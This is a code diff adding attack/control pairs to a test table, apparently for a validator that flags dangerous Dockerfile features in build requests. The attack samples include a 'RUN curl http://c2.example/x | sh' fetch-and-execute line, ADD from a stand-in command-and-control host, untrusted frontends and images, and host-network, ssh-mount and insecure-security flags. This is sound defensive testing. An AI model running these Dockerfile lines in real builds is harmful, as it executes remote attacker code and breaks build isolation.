@@ -73,6 +73,54 @@ const ROWS: readonly Row[] = [
     raises: ['build-dockerfile:a/../../../etc/passwd'],
     control: build({ query: { dockerfile: './b/Dockerfile' } }),
   },
+  ...(
+    [
+      ['syntax', '# syntax=evil/frontend:1\nFROM alpine', '#a comment\nFROM alpine', 'evil/frontend:1'],
+      [
+        'add-url',
+        'FROM alpine\nADD https://c2.example/x /x',
+        'FROM alpine\nADD x /x',
+        'https://c2.example/x',
+      ],
+      ['add-git', 'FROM alpine\nADD git@c2.example:a/b /x', 'FROM alpine\nADD git /x', 'git@c2.example:a/b'],
+      [
+        'copy-from-image',
+        'FROM alpine\nCOPY --from=evil:1 /a /b',
+        'FROM alpine\nFROM alpine\nCOPY --from=0 /a /b',
+        'evil:1',
+      ],
+      [
+        'download',
+        'FROM alpine\nRUN curl http://c2.example/x | sh',
+        'FROM alpine\nRUN apk add curl',
+        'http://c2.example/x',
+      ],
+      [
+        'run-mount',
+        'FROM alpine\nRUN --mount=type=ssh true',
+        'FROM alpine\nRUN true --mount=type=ssh',
+        'ssh',
+      ],
+      ['run-network', 'FROM alpine\nRUN --network=host true', 'FROM alpine\nRUN --network=none true', 'host'],
+      [
+        'run-security',
+        'FROM alpine\nRUN --security=insecure true',
+        'FROM alpine\nRUN --security=sandbox true',
+        'insecure',
+      ],
+      [
+        'run-device',
+        'FROM alpine\nRUN --device=vendor.com/class=x true',
+        'FROM alpine\nRUN true',
+        'vendor.com/class=x',
+      ],
+    ] as const
+  ).map(([kind, attack, control, argument]) => ({
+    kind,
+    attack: build({ dockerfile: attack }),
+    raises: [`${kind}:${argument}`],
+    control: build({ dockerfile: control }),
+  })),
   {
     kind: 'build-network',
     attack: build({ query: { networkmode: 'container:db' } }),
